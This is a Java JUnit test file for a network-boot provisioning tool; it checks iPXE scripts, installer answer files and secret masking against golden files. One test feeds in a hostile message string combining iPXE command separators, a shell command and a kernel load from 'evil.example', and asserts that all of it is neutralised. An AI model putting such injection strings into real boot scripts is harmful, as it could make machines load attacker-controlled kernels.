package org.bootwarden.boot;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.bootwarden.boot.RenderFixtures.SECOND_SERVER;
import static org.bootwarden.boot.RenderFixtures.SECRETS;
import static org.bootwarden.boot.RenderFixtures.SERVER;
import static org.bootwarden.boot.RenderFixtures.TOKEN;
import static org.bootwarden.boot.RenderFixtures.db02OnVlan;
import static org.bootwarden.boot.RenderFixtures.renderer;
import static org.bootwarden.boot.RenderFixtures.rescueSanboot;
import static org.bootwarden.boot.RenderFixtures.seeded;
import static org.bootwarden.boot.RenderFixtures.urls;
import static org.bootwarden.boot.RenderFixtures.web01;
import static org.bootwarden.boot.RenderFixtures.withVlan;

import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.bootwarden.hosts.Host;
import org.bootwarden.profiles.Profile;
import org.bootwarden.profiles.ProfileKind;
import org.bootwarden.profiles.ProfileService;
import org.bootwarden.profiles.SeededProfiles;
import org.bootwarden.support.Golden;
import org.bootwarden.templates.TemplateEngine;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.yaml.snakeyaml.Yaml;

/** Everything a machine receives, rendered and compared with golden files under {@code golden/}. */
class BootRendererTest {

    private final BootRenderer renderer = renderer();

    @Test
    void shouldRenderClientScriptForOneMacAndOneServer() {
        String script = renderer.clientScript(web01(), TOKEN, List.of(SERVER), 15_000);

        Golden.assertMatches("client/one-mac-one-server.ipxe", script);
        assertThat(script).startsWith("#!ipxe\n").doesNotContain("vcreate").doesNotContain("dhcp")
                .contains("chain --timeout 15000 --autofree " + SERVER + "/boot/" + web01().id() + "/" + TOKEN + "/script?");
    }

    @Test
    void shouldRenderClientScriptForTwoMacsOnVlanWithTwoServers() {
        String script = renderer.clientScript(db02OnVlan(), TOKEN, List.of(SERVER, SECOND_SERVER), 5_000);

        Golden.assertMatches("client/two-macs-vlan-two-servers.ipxe", script);
        assertThat(script).contains("vcreate --tag 42 ${bw-nic} || goto bw_nonet")
                .contains("asking server 1 of 2: " + SERVER).contains("asking server 2 of 2: " + SECOND_SERVER);
        // the first MAC is checked last on each NIC slot, so it wins when several NICs carry the host's MACs
        assertThat(script.indexOf("iseq ${net0/mac} 52:54:00:aa:bb:02")).isLessThan(script.indexOf("iseq ${net0/mac} 52:54:00:aa:bb:01"));
        assertThat(script).contains("iseq ${net" + (BootRenderer.NIC_SLOTS - 1) + "/mac} 52:54:00:aa:bb:01");
    }

    @Test
    void shouldBootTheSecondBiosDriveLocallyFromAUsbStick() {
        String cd = renderer.clientScript(web01(), TOKEN, List.of(SERVER), 15_000, BootRenderer.Media.CD);
        String usb = renderer.clientScript(web01(), TOKEN, List.of(SERVER), 15_000, BootRenderer.Media.USB);

        assertThat(cd).isEqualTo(renderer.clientScript(web01(), TOKEN, List.of(SERVER), 15_000));
        assertThat(usb).contains("sanboot --no-describe --drive 0x81 ||").doesNotContain("--drive 0x80");
        assertThat(usb.replace("usb (BIOS local disk is drive 0x81)", "cd (BIOS local disk is drive 0x80)").replace("0x81", "0x80"))
                .isEqualTo(cd);
    }

    @Test
    void shouldBootTheFirstBiosDiskLocallyFromAFloppyBecauseTheFloppyIsDrive0x00() {
        String cd = renderer.clientScript(web01(), TOKEN, List.of(SERVER), 15_000, BootRenderer.Media.CD);
        String floppy = renderer.clientScript(web01(), TOKEN, List.of(SERVER), 15_000, BootRenderer.Media.FLOPPY);

        assertThat(floppy).contains("# Boot medium: floppy (BIOS local disk is drive 0x80).")
                .contains("sanboot --no-describe --drive 0x80 ||").doesNotContain("0x81");
        assertThat(floppy.replace("Boot medium: floppy", "Boot medium: cd")).isEqualTo(cd);
    }

    @Test
    void shouldRenderLocalScriptThatSaysWhyAndExitsToTheLocalDisk() {
        String script = renderer.localScript("web01.lab.example", "boot state LOCAL, booting the local disk");

        Golden.assertMatches("local/normal.ipxe", script);
    }

    @Test
    void shouldRenderSecretsIntoAnswerFilesOnlyAndPlaceholdersWhereNoValueMayShow() {
        String served = renderer.answerFile(web01(), seeded("debian-12"), urls(web01()), SECRETS);
        String preview = renderer.answerFile(web01(), seeded("debian-12"), urls(web01()));
        Profile unset = SeededProfiles.load("rocky-9", Map.of());

        assertThat(served).contains("d-i passwd/user-password-crypted password " + RenderFixtures.PASSWORD_HASH + "\n");
        assertThat(preview).contains("d-i passwd/user-password-crypted password (secret adminPasswordHash)\n")
                .doesNotContain(RenderFixtures.PASSWORD_HASH);
        assertThat(preview.replace("(secret adminPasswordHash)", RenderFixtures.PASSWORD_HASH)).isEqualTo(served);
        assertThat(renderer.answerFile(db02OnVlan(), unset, urls(db02OnVlan()))).contains("rootpw --iscrypted (secret rootPasswordHash: not set)");
        Profile inKernelArgs = RenderFixtures.profile(ProfileKind.DEBIAN_PRESEED, "pw={{secrets.adminPasswordHash}}", null, "", Map.of());
        assertThatThrownBy(() -> renderer.installScript(web01(), inKernelArgs, urls(web01()), 1))
                .isInstanceOf(TemplateEngine.RenderException.class).hasMessageStartingWith("profile hostile kernelArgs: ");
    }

    @Test
    void shouldRenderTheRateLimitedAnswerAsALocalBoot() {
        String script = renderer.localScript(BootScriptFilter.RATE_LIMITED_HOST, BootScriptFilter.RATE_LIMITED);

        Golden.assertMatches("local/rate-limited.ipxe", script);
    }

    @Test
    void shouldNeutraliseHostileMessageInLocalScript() {
        String hostile = "disk gone || shell ${net0/ip} #comment; reboot\nkernel http://evil.example/x & naïve ✓ \"q\" 'q' `q` \\";

        String script = renderer.localScript(null, hostile);

        Golden.assertMatches("local/hostile-message.ipxe", script);
        assertThat(script.lines()).hasSize(3);
        assertThat(script).doesNotContain("||").doesNotContain("${").doesNotContain("#comment").doesNotContain(";")
                .doesNotContain("&").doesNotContain("\"").doesNotContain("'").doesNotContain("`").doesNotContain("\\")
                .doesNotContain("ï").doesNotContain("✓").endsWith("\nexit 0\n");
    }

    static Stream<Arguments> seededProfilesWithAndWithoutVlan() {
        return SeededProfiles.NAMES.stream().flatMap(n -> Stream.of(Arguments.of(n, false), Arguments.of(n, true)));
    }

    @ParameterizedTest(name = "{0}, vlan {1}")
    @MethodSource("seededProfilesWithAndWithoutVlan")
    void shouldRenderInstallScriptOfEverySeededProfile(String name, boolean vlan) {
        Host host = withVlan(web01(), vlan ? 42 : null);
        Profile profile = seeded(name);

        String script = renderer.installScript(host, profile, urls(host), 1);

        Golden.assertMatches("install/" + name + (vlan ? "-vlan" : "") + ".ipxe", script);
        assertThat(script).startsWith("#!ipxe\n");
    }

    @Test
    void shouldShipSeededProfilesWhosePasswordsAreSecretsWithoutAValue() {
        assertThat(SeededProfiles.unsetVariables("debian-12")).isEmpty();
        assertThat(SeededProfiles.unsetSecrets("debian-12")).containsExactly("adminPasswordHash");
        assertThat(SeededProfiles.unsetSecrets("ubuntu-24.04")).containsExactly("adminPasswordHash");
        assertThat(SeededProfiles.unsetSecrets("rocky-9")).containsExactly("rootPasswordHash");
        assertThat(SeededProfiles.unsetVariables("custom-ipxe")).containsExactly("isoFile");
        assertThat(SeededProfiles.unsetSecrets("custom-ipxe")).isEmpty();
        SeededProfiles.NAMES.forEach(n -> assertThat(ProfileService.unsetSecrets(seeded(n))).as(n).isEmpty());
        SeededProfiles.NAMES.forEach(n -> assertThat(ProfileService.unsetVariables(seeded(n))).as(n).isEmpty());
    }

    @Test
    void shouldRenderSanbootMethodForProfileWithIsoUrl() {
        Profile profile = rescueSanboot();
        assertThat(profile.bootMethod()).isEqualTo(Profile.BootMethod.SANBOOT);

        String script = renderer.installScript(web01(), profile, urls(web01()), 2);

        Golden.assertMatches("install/sanboot.ipxe", script);
        assertThat(script).contains("sanboot --no-describe " + SERVER + "/media/rescue/systemrescue-11.02.iso || goto bw_failed")
                .contains("install boot 2 of at most 3");
    }

    @Test
    void shouldRenderIpxeScriptMethodFromTheProfileOwnScript() {
        Profile profile = seeded("custom-ipxe");
        assertThat(profile.bootMethod()).isEqualTo(Profile.BootMethod.SCRIPT);

        String script = renderer.installScript(db02OnVlan(), profile, urls(db02OnVlan()), 1);

        Golden.assertMatches("install/ipxe-script-method.ipxe", script);
        assertThat(script).contains("sanboot --no-describe " + SERVER + "/media/tools/memtest86.iso || goto failed");
    }

    @Test
    void shouldRenderDebianPreseed() {
        String preseed = renderer.answerFile(web01(), seeded("debian-12"), urls(web01()), SECRETS);

        Golden.assertMatches("answers/debian-12.preseed", preseed);
        assertThat(preseed).doesNotContain("{{").doesNotContain("netcfg/use_vlan")
                .contains("d-i preseed/late_command string wget -q -O /dev/null " + urls(web01()).installed() + "\n");
    }

    @Test
    void shouldRenderDebianPreseedWithVlan() {
        Host host = withVlan(web01(), 42);

        String preseed = renderer.answerFile(host, seeded("debian-12"), urls(host), SECRETS);

        Golden.assertMatches("answers/debian-12-vlan.preseed", preseed);
        assertThat(preseed).contains("d-i netcfg/use_vlan boolean true\nd-i netcfg/vlan_id string 42\n");
    }

    @Test
    void shouldRenderRockyKickstart() {
        String ks = renderer.answerFile(db02OnVlan(), seeded("rocky-9"), urls(db02OnVlan()), SECRETS);

        Golden.assertMatches("answers/rocky-9.ks", ks);
        assertThat(ks).contains("--device=52:54:00:aa:bb:01").contains("--nameserver=192.168.42.53,192.168.42.54")
                .contains("--vlanid=42").contains("rootpw --iscrypted " + RenderFixtures.PASSWORD_HASH + "\n");
    }

    @Test
    void shouldRenderUbuntuUserDataThatParsesAsYaml() {
        Host host = web01();

        String userData = renderer.answerFile(host, seeded("ubuntu-24.04"), urls(host), SECRETS);

        Golden.assertMatches("answers/ubuntu-24.04.user-data", userData);
        assertThat(userData).startsWith("#cloud-config\n");
        Map<String, Object> auto = autoinstall(userData);
        assertThat(path(auto, "identity", "hostname")).isEqualTo("web01");
        assertThat(path(auto, "identity", "password")).isEqualTo(RenderFixtures.PASSWORD_HASH);
        Map<String, Object> nic = mapAt(auto, "network", "ethernets", "bootnic");
        assertThat(path(nic, "match", "macaddress")).isEqualTo("52:54:00:12:34:56");
        assertThat(nic.get("addresses")).isEqualTo(List.of("10.0.2.15/24"));
        assertThat(path(nic, "nameservers", "addresses")).isEqualTo(List.of("10.0.2.3"));
        assertThat(auto.get("late-commands")).isEqualTo(List.of("wget -q -O /dev/null " + urls(host).installed()));
    }

    @Test
    void shouldRenderUbuntuUserDataWithVlanThatParsesAsYaml() {
        Host host = db02OnVlan();

        String userData = renderer.answerFile(host, seeded("ubuntu-24.04"), urls(host), SECRETS);

        Golden.assertMatches("answers/ubuntu-24.04-vlan.user-data", userData);
        Map<String, Object> auto = autoinstall(userData);
        Map<String, Object> nic = mapAt(auto, "network", "ethernets", "bootnic");
        assertThat(nic).doesNotContainKey("addresses");
        Map<String, Object> vlan = mapAt(auto, "network", "vlans", "bootnic.42");
        assertThat(vlan).containsEntry("id", 42).containsEntry("link", "bootnic")
                .containsEntry("addresses", List.of("192.168.42.20/26"));
        assertThat(path(vlan, "nameservers", "addresses")).isEqualTo(List.of("192.168.42.53", "192.168.42.54"));
    }

    @Test
    void shouldRenderNocloudMetaData() {
        String metaData = renderer.nocloudMetaData(web01());

        Golden.assertMatches("answers/nocloud-meta-data.yaml", metaData);
        Map<String, Object> y = new Yaml().load(metaData);
        assertThat(y).containsEntry("instance-id", "bootwarden-" + web01().id()).containsEntry("local-hostname", "web01");
    }

    private static Map<String, Object> autoinstall(String userData) {
        Map<String, Object> doc = new Yaml().load(userData);
        assertThat(doc).containsOnlyKeys("autoinstall");
        return mapAt(doc, "autoinstall");
    }

    @SuppressWarnings("unchecked")
    private static Object path(Map<String, Object> map, String... keys) {
        Object o = map;
        for (String k : keys) {
            assertThat(o).as("parent of %s", k).isInstanceOf(Map.class);
            o = ((Map<String, Object>) o).get(k);
        }
        return o;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> mapAt(Map<String, Object> map, String... keys) {
        Object o = path(map, keys);
        assertThat(o).as(String.join(".", keys)).isInstanceOf(Map.class);
        return (Map<String, Object>) o;
    }
}
